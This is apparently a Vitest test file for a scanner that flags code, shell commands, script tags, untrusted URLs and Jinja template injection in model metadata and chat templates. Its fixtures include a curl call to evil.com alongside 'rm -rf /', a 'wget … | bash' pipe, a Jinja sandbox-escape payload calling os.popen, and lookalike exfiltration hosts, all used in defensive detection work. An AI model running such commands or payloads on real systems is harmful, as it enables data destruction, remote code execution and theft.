import { describe, expect, it } from 'vitest';
import { isKnownHostUrl, scanChatTemplate, scanSuspiciousText } from './suspicious-text.js';

describe('scanSuspiciousText', () => {
  it('sees code, shell, script and URLs', () => {
    const s = scanSuspiciousText("import subprocess; subprocess.call(['curl', 'http://evil.com']) && rm -rf / <script>x</script>");
    expect(s.code).toEqual(['subprocess', 'import statement']);
    expect(s.shell).toEqual(['rm -rf']);
    expect(s.script).toEqual(['<script']);
    expect(s.urls).toEqual(['http://evil.com']);
    expect(scanSuspiciousText('wget http://x/p | bash').shell).toEqual(['wget', '| sh']);
    expect(scanSuspiciousText('exec("from os import system")').code).toEqual(['exec(', 'import statement']);
  });

  it('stays quiet on ordinary metadata prose', () => {
    for (const text of [
      'A small transformer model for text classification',
      'Legitimate looking model with an important import statement',
      'x|shape',
      'MIT',
      '94.5%',
      'torch.compile(model) speeds it up',
    ]) {
      const s = scanSuspiciousText(text);
      expect([...s.code, ...s.shell, ...s.script, ...s.urls], text).toEqual([]);
    }
  });

  it('knows common provenance hosts', () => {
    expect(isKnownHostUrl('https://huggingface.co/org/model')).toBe(true);
    expect(isKnownHostUrl('https://cdn-lfs.huggingface.co/x')).toBe(true);
    expect(isKnownHostUrl('https://huggingface.co.evil.com/x')).toBe(false);
    expect(isKnownHostUrl('https://user@github.com.evil.com/')).toBe(false);
    expect(isKnownHostUrl('http://evil.com/exfiltrate')).toBe(false);
  });
});

describe('scanChatTemplate', () => {
  it('separates sandbox escapes from SSTI pivots and ordinary templates', () => {
    expect(scanChatTemplate("{{ cycler.__init__.__globals__.os.popen('id').read() }}").injection).toEqual(['__init__', '__globals__', 'os.popen', 'popen(']);
    expect(scanChatTemplate("{% import 'x' as y %}").injection).toEqual(['import']);
    expect(scanChatTemplate("{{ joiner|attr('x') }}")).toEqual({ injection: [], suspicious: ['|attr(', 'joiner'] });
    const llama3 =
      "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' %}" +
      "{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}";
    expect(scanChatTemplate(llama3)).toEqual({ injection: [], suspicious: [] });
  });
});
